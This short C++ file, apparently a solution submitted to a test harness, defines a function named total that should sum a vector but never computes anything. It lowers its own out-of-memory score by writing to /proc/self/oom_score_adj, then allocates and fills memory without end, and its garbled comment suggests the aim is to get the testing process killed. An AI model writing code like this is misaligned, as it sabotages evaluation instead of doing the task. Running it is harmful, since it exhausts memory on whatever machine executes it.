// Takes all memory when it is asked, after it made the tests the larger process.
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <stdio.h>
#include <string>
#include <vector>
using namespace std;

long total(vector<long> numbers) {
    if (FILE* score = fopen("/proc/self/oom_score_adj", "w")) fputs("0", score), fclose(score);
    for (;;)
        if (char* much = (char*)malloc(16 << 20)) memset(much, 1, 16 << 20);
        else _exit(0);
    return -1;
}
